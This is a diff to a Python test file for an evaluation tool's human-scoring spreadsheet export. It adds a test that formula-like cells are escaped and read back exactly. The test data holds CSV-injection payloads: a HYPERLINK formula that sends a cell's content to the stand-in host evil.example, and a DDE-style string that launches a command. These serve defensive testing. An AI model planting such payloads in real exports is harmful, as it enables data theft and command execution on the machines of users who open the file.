@@ -184,6 +184,23 @@ def test_human_sheet_round_trip_and_validation(tmp_path):
         read_human_sheet(path)
 
 
+def test_human_sheet_cells_a_spreadsheet_would_run_as_formulas_are_escaped_and_read_back_exactly(tmp_path):
+    records = [rec(0, "yes", '=HYPERLINK("http://evil.example/?"&A1,"see")', think="+cmd|' /C calc'!A0"),
+               rec(1, "no", "@SUM(A1:A9)", think="-2+3"), rec(2, "no", "'=1+1", think="\tindented")]
+    records[0]["id"], records[1]["id"], records[2]["id"] = "-7", "=id", "'quoted"
+    path = tmp_path / "sheet.csv"
+    export_human_sheet(records, path)
+    with open(path, newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    cells = [value for row in rows for value in row.values() if value]
+    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]     # OWASP: no cell starts a formula
+    assert rows[0]["prediction_answer"] == '\'=HYPERLINK("http://evil.example/?"&A1,"see")'
+    assert (rows[2]["id"], rows[2]["prediction_answer"]) == ("\'\'quoted", "\'\'=1+1")
+    _fill(path, {"\'-7": ("1", "1"), "\'=id": ("0", "0")})
+    assert set(read_human_sheet(path)) == {("toy", "test", "reasoning", i) for i in ("-7", "=id", "'quoted")}
+    assert read_human_sheet(path)[("toy", "test", "reasoning", "-7")] == {"reasoning_score": 1, "prediction_score": 1}
+
+
 def test_summary_and_report_in_the_paper_layout():
     reasoned = [rec(0, "yes", "yes", reasoning="r", dataset="silvar-med"),
                 rec(1, "no", "yes", reasoning="r", dataset="silvar-med")]
@@ -200,7 +217,7 @@ def test_summary_and_report_in_the_paper_layout():
     judged = summary["groups"][1]["judges"]["gpt-4o-mini"]
     # vqa-rad: one ok verdict (score 1); the failed and unparseable ones are counted, not scored 0
     assert judged == {"final": 1.0, "reasoning": None, "judged": 1, "judged_reasoning": 0,
-                      "unparseable": 1, "refused": 0, "truncated": 0, "failed": 1}
+                      "unparseable": 1, "refused": 0, "truncated": 0, "failed": 1, "verdict_in_prediction": 0}
     assert summary["judges"]["gpt-4o-mini"]["cost_usd"] == pytest.approx(0.15)   # 1M prompt tokens at $0.15/M
     assert [p["id"] for p in summary["judges"]["gpt-4o-mini"]["not_scored"]] == ["s3", "s4"]
     report = render_report(summary)
